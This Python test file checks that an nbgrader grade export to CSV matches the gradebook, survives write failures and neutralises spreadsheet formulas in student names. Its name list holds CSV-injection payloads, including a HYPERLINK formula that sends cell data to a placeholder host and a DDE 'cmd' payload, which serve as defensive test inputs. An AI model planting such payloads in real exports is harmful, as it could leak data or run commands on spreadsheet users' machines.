"""`nbgrader export`: what is in the file is what is in the gradebook, for any name, and a failed export leaves the old file."""

from __future__ import annotations

import csv
import io
import os
import shutil
import stat
import unicodedata
from datetime import datetime
from types import SimpleNamespace

import pytest
import sqlalchemy
from hypothesis import given
from hypothesis import strategies as st
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin

from autograder import csv_lines
from autograder.hosts.nbgrader import export, install, scratch
from tests.support import tiny

NAMES_THAT_HURT = [
    "Doe, Jane", "King, Jr.", 'Anna "Ann" Roe', "O'Neil", "'quoted'", "two\nlines", "line\r\nfeed", "return\ralone", "semi;colon",
    "tab\there", "\ttab first", "\rreturn first", "\nbreak first", "'\tquote, tab", "007", "1e5", "1,5", "TRUE", "=1+1", "+1", "-1", "@SUM(A1)",
    "=HYPERLINK(\"http://x.test?\"&A1)", "  =1+1", "\u00a0=1+1", "\u200b=1+1", "\u202e=1+1", "\ufeff=1+1", "'=1+1", "\"=1+1", "“=1+1", "＝1+1", "＋1", "－1", "＠A1",
    "﹢1", "a;=1+1", "a; \"=1+1", "a\t=1+1", "a|@x", "a\n=1+1", "a\r-1", "''=1", "=cmd|' /C calc'!A0", "日本 太郎", "Zoë Ångström", "🦊 Fuchs", "\u202babc\u202c",
    "אבג", "a{b}", "{0}", "%s", "a\\b", "a\\", ",", '"', '""', "", " ", "x" * 3000, "a\u2028b", "nul\u0001",
]  # fmt: skip

pytestmark = pytest.mark.xdist_group("export")  # one gradebook

install.patch()  # lets nbgrader find `alembic` in an environment that is not activated


def gradebook_of(folder):
    """A gradebook with a lesson-like assignment, one of another kind, and a student for each name that hurts."""
    (folder / "nbgrader_config.py").write_text(scratch.config_text(), "utf-8")
    with Gradebook(f"sqlite:///{folder}/gradebook.db") as book:
        for assignment in ("01_halves", 'essay, "final"'):
            book.add_assignment(assignment, duedate="2026-03-01 10:00:00.000000 UTC")
            book.add_notebook("n", assignment)
            book.add_grade_cell("half_check", "n", assignment, max_score=5, cell_type="code")
            book.add_grade_cell("mirror_check", "n", assignment, max_score=5, cell_type="code")
        for number, name in enumerate(NAMES_THAT_HURT):
            book.add_student(f"{number:03}{name}", last_name=name, first_name=name[::-1], email=f"{name}@x.test")
            cases = {
                0: {"auto": 5, "late": 1.5},
                1: {"auto": 0},
                2: {"auto": None},
                3: {"auto": None, "manual": 4},
                4: {"auto": 5, "extra": 2.5},
                5: {"auto": 0.1, "late": 5},
                6: {"auto": 2, "waiting": True},
                7: None,
            }
            submit(book, f"{number:03}{name}", cases[number % len(cases)])
    return f"sqlite:///{folder}/gradebook.db"


def submit(book, student, case) -> None:
    if case is None:
        return
    submission = book.add_submission("01_halves", student)
    submission.timestamp = datetime(2026, 3, 1, 9, 0, 0)
    for grade in submission.notebooks[0].grades:
        grade.auto_score, grade.manual_score = case["auto"], case.get("manual")
        grade.extra_credit = case.get("extra")
        ungraded = case["auto"] is None and "manual" not in case
        grade.needs_manual_grade = ungraded or case.get("waiting", False)
    if "late" in case:
        submission.notebooks[0].late_submission_penalty = case["late"]
    book.db.commit()


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    folder = tmp_path_factory.mktemp("export")
    url = gradebook_of(folder)
    done = tiny.nbgrader(folder, "export")
    assert done.returncode == 0, done.stderr
    last, held = done.stderr.splitlines()[-1], sum(number % 8 in (2, 6) for number in range(len(NAMES_THAT_HURT)))
    assert f"grades.csv: {held} submissions wait for a human and got no points: " in last
    assert last.count("(It has to be graded by hand);") == 12 and last.endswith(f"and {held - 12} more.")
    return folder, url


def read(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def test_the_file_read_back_is_the_gradebook(exported):
    folder, url = exported
    rows = read(folder / "grades.csv")
    with Gradebook(url) as book:
        pairs = [(a, s) for a in book.assignments for s in book.students]
        assert len(rows) == len(pairs) == 2 * len(NAMES_THAT_HURT)
        for row, (assignment, student) in zip(rows, pairs, strict=True):
            texts = (assignment.name, student.id, student.last_name, student.first_name, student.email)
            named = ("assignment", "student_id", "last_name", "first_name", "email")
            assert tuple(csv_lines.original(row[name]) for name in named) == texts
            assert row["duedate"] == "2026-03-01 10:00:00+00:00"
            assert float(row["max_score"]) == 10


def test_scores_are_numbers_or_empty(exported):
    folder, _ = exported
    kept = ("raw_score", "late_submission_penalty", "score", "timestamp")
    when = "2026-03-01 09:00:00+00:00"
    found = {csv_lines.original(row["student_id"])[:3]: tuple(row[key] for key in kept) for row in read(folder / "grades.csv") if row["assignment"] == "01_halves"}  # fmt: skip
    assert found["000"] == ("10.0", "1.5", "8.5", when), "late"
    assert found["001"] == ("0.0", "0.0", "0.0", when), "blank"
    assert found["002"] == ("", "0.0", "", when), "waits for a human"
    assert found["003"] == ("8.0", "0.0", "8.0", when), "graded by hand"
    assert found["004"] == ("15.0", "0.0", "15.0", when), "extra credit"
    assert found["005"] == ("0.2", "5.0", "0.0", when), "never below zero"
    assert found["006"] == ("", "0.0", "", when), "the points are provisional until a human has looked"
    assert found["007"] == ("", "", "", ""), "not handed in"


def test_columns_are_nbgraders_own(tmp_path):
    plugin = CsvExportPlugin()
    plugin.to = str(tmp_path / "theirs.csv")
    with Gradebook("sqlite:///:memory:") as empty:
        plugin.export(empty)
    assert (tmp_path / "theirs.csv").read_text("utf-8") == ",".join(export.COLUMNS) + "\n"
    assert set(export.ExportGrades.class_trait_names(config=True)) == set(
        CsvExportPlugin.class_trait_names(config=True)
    )


def spreadsheet_cells(cell: str) -> list[str]:
    """The cells that a spreadsheet may see in a text, whichever separator it takes."""
    return [cell, *cell.replace("\r", "\n").replace(";", "\n").replace("\t", "\n").replace("|", "\n").split("\n")]


def is_formula(cell: str) -> bool:
    visible = "".join(c for c in cell if unicodedata.category(c)[0] not in "CZ")
    return unicodedata.normalize("NFKC", visible).startswith(("=", "+", "-", "@"))


def test_no_text_is_a_formula(exported):
    folder, _ = exported
    for row in read(folder / "grades.csv"):
        for name in ("assignment", "student_id", "last_name", "first_name", "email"):
            assert not any(is_formula(cell) for cell in spreadsheet_cells(row[name])), row[name]
            assert not row[name].startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize(
    "text", ["Doe, Jane", "O'Neil", "a-b", "x=1", "a@b.test", "007", "日本", "'", "''", "- ", "a;b"]
)
def test_texts_that_are_no_formulas_stay_as_they_are(text):
    assert csv_lines.harmless(text) == (text if text != "- " else "'- ")


@given(st.text(alphabet=st.one_of(st.sampled_from("=+-@'\"; \t\r\n|a＝"), st.characters(codec="utf-8")), max_size=12))
def test_every_text_comes_back(text):
    assert csv_lines.original(csv_lines.harmless(text)) == text
    (row,) = csv.reader(io.StringIO(csv_lines.line_of([text, 1.5]), newline=""), strict=True)
    assert row == [csv_lines.harmless(text), "1.5"]


def test_students_and_assignments_can_be_chosen(exported):
    folder, _ = exported
    chosen = ('--assignment=["01_halves"]', '--student=["000Doe, Jane","001King, Jr."]', "--to=few.csv")
    done = tiny.nbgrader(folder, "export", *chosen)
    assert done.returncode == 0, done.stderr
    assert [row["student_id"] for row in read(folder / "few.csv")] == ["000Doe, Jane", "001King, Jr."]


@pytest.fixture(scope="module")
def gradebook_of_one(tmp_path_factory):
    """A gradebook of one student. nbgrader takes a second to make one."""
    path = tmp_path_factory.mktemp("one") / "gradebook.db"
    with Gradebook(f"sqlite:///{path}") as book:
        book.add_assignment("a")
        book.add_student("s")
    return path


@pytest.fixture
def small(gradebook_of_one, tmp_path):
    """A course folder with a gradebook of one student and an old export; plug-in, not command, for speed."""
    shutil.copyfile(gradebook_of_one, tmp_path / "gradebook.db")
    (tmp_path / "grades.csv").write_text("old\n", "utf-8")

    def run(to) -> None:
        plugin = export.ExportGrades()
        plugin.to = str(to)
        with Gradebook(f"sqlite:///{tmp_path}/gradebook.db") as book:
            plugin.export(book)

    return SimpleNamespace(folder=tmp_path, run=run)


def full_disk(*_) -> None:
    raise OSError(28, "No space left on device")


def test_a_full_disk_leaves_the_old_file_whole(small, monkeypatch, caplog):
    monkeypatch.setattr(os, "fsync", full_disk)
    with pytest.raises(SystemExit) as end:
        small.run(small.folder / "grades.csv")
    assert end.value.code == 1
    assert "No space left on device" in caplog.text
    assert (small.folder / "grades.csv").read_text("utf-8") == "old\n"
    assert sorted(p.name for p in small.folder.iterdir()) == ["gradebook.db", "grades.csv"]


@pytest.mark.parametrize(
    "where", ["missing/grades.csv", ".", "grades.csv/x", "/proc/grades.csv", "/dev/full", "n" * 300]
)
def test_a_target_that_cannot_be_written_to_is_one_line_and_not_a_half_file(small, caplog, where):
    with pytest.raises(SystemExit) as end:
        small.run(where if where.startswith("/") else small.folder / where)
    assert end.value.code == 1
    errors = [record.getMessage() for record in caplog.records if record.levelname == "ERROR"]
    assert len(errors) == 1 and "--to" in errors[0] and "\n" not in errors[0]
    assert sorted(p.name for p in small.folder.iterdir()) == ["gradebook.db", "grades.csv"]


def test_a_bad_target_ends_the_command_with_status_1_and_no_traceback(exported):
    folder, _ = exported
    done = tiny.nbgrader(folder, "export", "--to=missing/grades.csv")
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert sum("ERROR" in line for line in done.stderr.splitlines()) == 1


def test_a_link_is_followed_and_rights_are_kept(small):
    (small.folder / "real.csv").write_text("old\n", "utf-8")
    (small.folder / "real.csv").chmod(0o640)
    (small.folder / "link.csv").symlink_to("real.csv")
    small.run(small.folder / "link.csv")
    assert (small.folder / "link.csv").is_symlink()
    assert read(small.folder / "real.csv")[0]["student_id"] == "s"
    assert stat.S_IMODE((small.folder / "real.csv").stat().st_mode) == 0o640


def test_a_new_file_has_the_rights_that_the_umask_gives(small):
    before = os.umask(0o027)
    try:
        small.run(small.folder / "new.csv")
    finally:
        os.umask(before)
    assert stat.S_IMODE((small.folder / "new.csv").stat().st_mode) == 0o640


def test_a_damaged_gradebook_leaves_the_old_file_whole(small, caplog):
    plugin = export.ExportGrades()
    plugin.to = str(small.folder / "grades.csv")
    with Gradebook(f"sqlite:///{small.folder}/gradebook.db") as book:
        book.db.execute(sqlalchemy.text("DROP TABLE student"))
        book.db.commit()
        with pytest.raises(SystemExit):
            plugin.export(book)
    assert "gradebook cannot be read" in caplog.text
    assert (small.folder / "grades.csv").read_text("utf-8") == "old\n"
